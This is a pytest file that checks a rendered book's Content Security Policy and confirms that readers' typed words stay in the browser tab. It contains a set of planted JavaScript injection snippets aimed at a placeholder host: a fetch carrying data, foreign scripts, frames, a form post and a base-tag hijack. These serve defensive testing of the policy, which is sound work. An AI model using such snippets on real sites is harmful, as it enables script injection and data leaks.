"""Private and closed: whom a page asks, what it refuses, and where typed words go."""

import json
import re
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from book.assets import localise
from book.check import read_page

ROOT = Path(__file__).parent.parent
SECRET = "zebrafinch sings xylophonically"
"""What the reader types: its words stand nowhere in the book."""

KEPT = {"theme", "ovs-quizzes"}
"""All that a page may keep in localStorage."""

NOTE_VIOLATIONS = """
(() => {
  window.violations = [];
  addEventListener("securitypolicyviolation", (event) => {
    if (event.disposition === "enforce") // else it is told of and let through
      violations.push([event.effectiveDirective, event.blockedURI]);
  });
})();
"""


def pages_of(folder: Path) -> list[str]:
    return [p.relative_to(folder).as_posix() for p in sorted(folder.rglob("*.html"))]


@pytest.fixture(scope="module")
def whole_book(book_folder, slides_folder):
    """The rendered book with its slides, and with the one page where that is made."""
    return book_folder


# ------------------------------------------------------------------ what pages state


def policy_of(page: BeautifulSoup) -> dict[str, list[str]]:
    """Return a page's policy as {directive: sources}."""
    (stated,) = page.select('meta[http-equiv="Content-Security-Policy"]')
    # What stands before the policy is not held to it
    before = [tag for tag in stated.find_previous_siblings() if tag.name]
    assert [tag for tag in before if not tag.has_attr("charset")] == []
    parts = [part.split() for part in stated["content"].split(";")]
    return {name: sources for name, *sources in parts}


def test_every_page_states_that_it_asks_no_other_host(whole_book):
    names = pages_of(whole_book)
    pages = [read_page(whole_book / name) for name in names]
    pages.append(read_page(ROOT / "book" / "start_here.html"))
    assert len(pages) > 15
    for page in pages:
        policy = policy_of(page)
        assert policy.pop("default-src") == ["'none'"]
        assert policy.pop("base-uri") == policy.pop("form-action") == ["'none'"]
        # Style is let in from a page's own text: it can't run, nor ask another host
        assert policy.pop("style-src") in (
            ["'self'"],
            ["'unsafe-inline'"],
            ["'self'", "'unsafe-inline'"],
        )
        known = "'self'|'wasm-unsafe-eval'|'sha256-[^']+'|data:|blob:"
        for directive, sources in policy.items():
            assert [s for s in sources if not re.fullmatch(known, s)] == []
            assert ("data:" in sources) <= (directive == "img-src")
            assert ("blob:" in sources) <= (directive == "worker-src")
        (referrer,) = page.select('meta[name="referrer"]')
        assert referrer["content"] == "no-referrer"


def test_no_page_names_another_host_but_in_links_and_words(whole_book):
    for name in pages_of(whole_book):
        page = read_page(whole_book / name)
        for tag in page.select("[src], link[href], [srcset], [action], [ping], object"):
            for attribute in ("src", "href", "srcset", "action", "ping", "data"):
                assert not re.match(r"(\w+:)?//", tag.get(attribute, "")), (name, tag)


# ------------------------------------------------------------------ what it refuses

ELSEWHERE = "https://elsewhere.invalid"
PLANTED = {
    "img-src": f"document.body.append(Object.assign(new Image, {{src: '{ELSEWHERE}/x'}}))",
    "connect-src": f"fetch('{ELSEWHERE}/x?words').catch(() => {{}})",
    "script-src-elem": "document.body.append(Object.assign("
    f"document.createElement('script'), {{src: '{ELSEWHERE}/x.js'}}))",
    "script-src-elem inline": "document.body.append(Object.assign("
    "document.createElement('script'), {textContent: 'window.ran = true'}))",
    "script-src-attr": "document.body.insertAdjacentHTML('beforeend',"
    " '<p onclick=\"window.ran = true\">x</p>'); document.body.lastChild.click()",
    "script-src": "setTimeout('window.ran = true')",
    "style-src-elem": "document.head.append(Object.assign("
    f"document.createElement('link'), {{rel: 'stylesheet', href: '{ELSEWHERE}/x'}}))",
    "frame-src": "document.body.append(Object.assign("
    f"document.createElement('iframe'), {{src: '{ELSEWHERE}/x'}}))",
    "object-src": "document.body.append(Object.assign("
    f"document.createElement('object'), {{data: '{ELSEWHERE}/x'}}))",
    "media-src": "document.body.append(Object.assign("
    f"document.createElement('video'), {{src: '{ELSEWHERE}/x'}}))",
    "form-action": "{ const form = Object.assign(document.createElement('form'),"
    f" {{action: '{ELSEWHERE}/x'}}); document.body.append(form); form.submit(); }}",
    "base-uri": "document.head.append(Object.assign("
    f"document.createElement('base'), {{href: '{ELSEWHERE}/'}}))",
    "font-src": f"new FontFace('x', 'url({ELSEWHERE}/x)').load().catch(() => {{}})",
}


@pytest.mark.parametrize(
    "name",
    ["chapters/search.html", "slides/search.html"],
)
@pytest.mark.fault(
    "a picture, script, frame, form or request to another host planted in a page",
    "the page refuses it",
)
def test_what_is_planted_in_a_page_is_refused(new_page, whole_book, address, name):
    page = new_page(NOTE_VIOLATIONS)
    page.goto(address + name)
    for code in PLANTED.values():
        page.evaluate(f"() => {{ try {{ {code}; }} catch {{}} }}")
    wanted = json.dumps([one.split()[0] for one in PLANTED])
    page.wait_for_function(
        # Browsers differ in whether they name the narrower directive
        f"() => {wanted}.every((wanted) =>"
        " violations.some(([directive]) => wanted.startsWith(directive)))"
    )
    assert page.evaluate("() => window.ran ?? null") is None


QUARTO = """<!DOCTYPE html>
<html lang="en"><head>

<meta charset="utf-8">
<script>window.inline = true</script>
</head><body><main></main><script>window.inline += new Function("return 1")()</script>
</body></html>
"""
"""As Quarto begins a page: with scripts in it."""


@pytest.mark.fault(
    "a picture, script, frame, form or request to another host planted in a page that "
    "Quarto made",
    "the page refuses it",
)
def test_what_is_planted_in_a_page_of_quarto_s_is_refused(new_page, tmp_path, serve):
    (tmp_path / "chapters").mkdir()
    made = tmp_path / "chapters" / "one.html"
    made.write_text(QUARTO)
    localise(made, tmp_path, ())
    page = new_page(NOTE_VIOLATIONS)
    page.goto(f"{serve(tmp_path).url}chapters/one.html")
    assert page.evaluate("() => window.inline") == 2  # Quarto's own scripts run
    # Its own scripts may stand in the page
    foreign = {d: code for d, code in PLANTED.items() if ELSEWHERE in code}
    for code in foreign.values():
        page.evaluate(f"() => {{ try {{ {code}; }} catch {{}} }}")
    page.wait_for_function(
        f"() => {json.dumps(list(foreign))}.every((wanted) =>"
        " violations.some(([directive]) => wanted.startsWith(directive)))"
    )
    (referrer,) = read_page(made).select('meta[name="referrer"]')
    assert referrer["content"] == "no-referrer"


# ------------------------------------------------------------------ what readers type


def use_widgets(page) -> int:
    """Mount every widget of a page, type into every box; return how many there are."""
    widgets = page.locator(".ovs-widget[data-widget]")
    for index in range(widgets.count()):
        widget = widgets.nth(index)
        widget.evaluate("(one) => one.scrollIntoView({ behavior: 'instant' })")
        page.wait_for_function(
            "(i) => document.querySelectorAll('.ovs-widget[data-widget]')[i]"
            ".dataset.live",
            arg=index,
        )
        boxes = widget.locator("input.ovs-input")
        for box in boxes.all():
            assert box.get_attribute("autocomplete") == "off"
            box.fill(SECRET)
        use_answer(page, widget)
        for button in widget.locator(".ovs-press:visible, .ovs-chip:visible").all()[:4]:
            if button.is_enabled():
                button.click()
        for box in boxes.all():
            box.fill(SECRET)
    return widgets.count()


def use_answer(page, widget) -> None:
    """Wait until the model in the page has answered what was typed."""
    kind = widget.get_attribute("data-widget")
    if kind == "search_map":
        widget.get_by_role("list", name=f"Hits: 10 for “{SECRET}”").wait_for()
    elif kind == "pair_probe":
        widget.locator(".ovs-cosine").filter(has_text=re.compile(r"1\.000")).wait_for()
    elif kind == "token_xray":
        widget.locator(".ovs-token").filter(has_text="##yl").first.wait_for()
    elif kind == "cluster_map":
        widget.locator(".ovs-clusters > li").first.wait_for()


def answer_quizzes(page) -> int:
    """Answer each quiz of a page, all of its answers one after the other."""
    quizzes = page.locator(".quiz form")
    for quiz in quizzes.all():
        for radio in quiz.get_by_role("radio").all():
            radio.check()
            quiz.get_by_role("button", name="Check").click()
            quiz.get_by_role("status").filter(has_text=re.compile(r"\w")).wait_for()
    return quizzes.count()


LEFT = """async () => {
  const cached = [];
  for (const name of await caches.keys()) {
    for (const request of await (await caches.open(name)).keys()) {
      cached.push([name, request.url]);
    }
  }
  return {
    address: location.href,
    title: document.title,
    history: JSON.stringify(history.state),
    local: { ...localStorage },
    session: { ...sessionStorage },
    cookies: document.cookie,
    databases: (await indexedDB.databases()).map(({ name }) => name),
    cached,
  };
}"""


def check_left(left: dict, address: str) -> None:
    """Check all that a page leaves behind."""
    assert left["address"].partition("#")[0] == address
    assert set(left["local"]) <= KEPT
    quizzes = left["local"].get("ovs-quizzes", "")
    assert re.fullmatch(r"(quiz-[a-z0-9_-]+ ?)*", quizzes)
    assert left["session"] == {}
    assert left["cookies"] == ""
    assert left["databases"] == []
    for name, url in left["cached"]:
        assert name == "sentence-encoder"
        assert re.fullmatch(r"https://kept\.invalid/[0-9a-f]{64}", url)
    assert len(left["cached"]) <= 1
    assert not [word for word in SECRET.split() if word in json.dumps(left)]


LIVE = ["search", "clustering", "mechanism", "models", "failures"]
"""Chapters with a widget, whose decks show it too."""

OTHERS = sorted(
    {p.stem for p in ROOT.glob("chapters/*.ipynb")}
    - set(LIVE)  # no widget, perhaps quizzes
)


@pytest.mark.parametrize(
    ("name", "live"),
    [
        ("index.html", 1),
        *((f"chapters/{name}.html", 1) for name in LIVE),
        pytest.param("slides/search.html", 1),
        *(
            pytest.param(f"slides/{name}.html", 1, marks=pytest.mark.slow)
            for name in LIVE[1:]
        ),
        *(
            pytest.param(f"chapters/{name}.html", 0, marks=pytest.mark.slow)
            for name in OTHERS
        ),
    ],
)
@pytest.mark.fault(
    "words typed into every box of a page",
    "no request holds them, no storage keeps them, no other host is asked",
)
def test_what_a_reader_does_on_a_page_stays_in_the_tab(
    browser, whole_book, site, name, live
):
    context = browser.new_context(viewport={"width": 1280, "height": 800})
    page = context.new_page()
    sent, referred, errors = [], [], []

    def note(request):
        sent.append(f"{request.url} {request.post_data or ''}")
        referred.append(request.headers.get("referer"))

    context.on("request", note)
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("console", lambda said: said.type == "error" and errors.append(said.text))
    page.add_init_script(NOTE_VIOLATIONS)
    page.goto(site.url + name)
    if name.startswith("slides/"):
        page.wait_for_function("() => window.Reveal?.isReady()")
        page.evaluate(
            "() => Reveal.slide(Reveal.getIndices("
            "document.querySelector('.ovs-widget').closest('section')).h)"
        )
    assert use_widgets(page) == live
    if name.startswith("chapters/") and live:
        assert answer_quizzes(page) >= 4
    else:
        answer_quizzes(page)
    if not name.startswith("slides/"):
        page.locator("#search-open").click()
        page.locator("#search-text").fill(SECRET)
        page.locator("#search-said").filter(has_text="Nothing found").wait_for()
    check_left(page.evaluate(LEFT), site.url + name)
    assert page.evaluate("() => violations") == []
    assert errors == []
    own = (site.url, "data:", "blob:")
    assert [one for one in sent if not one.startswith(own)] == []
    assert [one for one in sent for word in SECRET.split() if word in one] == []
    assert not any(referred)
    context.close()
